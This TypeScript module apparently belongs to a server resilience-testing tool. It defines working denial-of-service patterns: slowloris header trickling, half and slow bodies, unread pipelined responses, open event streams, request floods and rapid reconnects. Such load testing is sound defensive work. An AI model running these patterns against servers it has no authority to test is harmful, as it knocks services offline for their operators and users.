import type { Socket } from "node:net"
import type { Target } from "./target.ts"

/** What an attacker does with one connection, once it is open. */
export interface Attack {
  readonly name: string
  /** What it does, for the report. */
  readonly description: string
  /** Listeners that it is of; default all. */
  readonly isFor?: (target: Target) => boolean
  /** Begins on an open connection. What repeats is to stop when the connection closes. */
  readonly begin: (socket: Socket, target: Target) => void
  /** Milliseconds until a connection that was closed is opened again. */
  readonly reopenMs: number
}

const trickleMs = 400
const requestsAhead = 16

/** Sends something now and then, for as long as the connection is open. */
function trickle(socket: Socket, text: () => string): void {
  const timer = setInterval(() => socket.write(text()), trickleMs)
  socket.once("close", () => clearInterval(timer))
}

/** All ways in which callers hold what others need. */
export const attacks: readonly Attack[] = [
  { name: "idle", description: "connections on which nothing is sent", begin: () => {}, reopenMs: 50 },
  {
    name: "slowloris",
    description: "headers that come one by one and never end",
    begin: (socket, { request }) => {
      socket.write(request.slice(0, request.indexOf("\r\n") + 2))
      let count = 0
      trickle(socket, () => `x-${++count}: 1\r\n`)
    },
    reopenMs: 50,
  },
  {
    name: "half",
    description: "half of a request and nothing more",
    begin: (socket, { bodyRequest }) => socket.write(`${bodyRequest}{"half`),
    reopenMs: 50,
  },
  {
    name: "slow-body",
    description: "bodies that come byte by byte",
    begin: (socket, { bodyRequest }) => {
      socket.write(bodyRequest)
      trickle(socket, () => " ")
    },
    reopenMs: 50,
  },
  {
    name: "slow-reader",
    description: "large answers, many asked for ahead, that nobody reads",
    begin: (socket, { largeRequest }) => {
      socket.pause()
      socket.write(largeRequest.repeat(requestsAhead))
    },
    reopenMs: 50,
  },
  {
    name: "streams",
    description: "streams of events, as many as may be",
    isFor: ({ streamRequest }) => streamRequest !== undefined,
    begin: (socket, { streamRequest = "" }) => socket.write(streamRequest),
    reopenMs: 50,
  },
  {
    name: "flood",
    description: "requests as fast as they are answered, several ahead",
    begin: (socket, { request }) => {
      socket.write(request.repeat(requestsAhead))
      socket.on("data", (data) => {
        const answers = data.toString("latin1").split("HTTP/1.1 ").length - 1
        if (answers > 0) socket.write(request.repeat(answers))
      })
    },
    reopenMs: 0,
  },
  {
    name: "connects",
    description: "connections that are opened for one request each, as fast as they are closed",
    begin: (socket, { request }) => {
      socket.write(request)
      socket.once("data", () => socket.destroy())
    },
    reopenMs: 0,
  },
]
